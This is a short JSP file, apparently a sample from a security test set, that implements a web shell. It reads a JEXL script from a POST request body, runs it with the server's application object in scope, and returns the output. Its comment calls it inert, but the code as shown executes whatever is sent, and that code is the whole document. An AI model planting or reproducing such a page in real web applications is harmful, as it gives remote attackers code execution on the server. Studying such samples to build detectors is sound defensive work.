<%@ page import="org.apache.commons.jexl3.*,java.io.*" %>
<%-- test sample (inert): a JEXL script read from the request body and run with the page's objects --%>
<%
    if ("POST".equals(request.getMethod())) {
        BufferedReader r = request.getReader();
        StringBuilder src = new StringBuilder();
        for (String l; (l = r.readLine()) != null; ) src.append(l).append('\n');
        JexlEngine engine = new JexlBuilder().strict(false).create();
        MapContext ctx = new MapContext();
        ctx.set("app", application);
        Object result = engine.createScript(src.toString()).execute(ctx);
        out.print(String.valueOf(result));
    }
%>
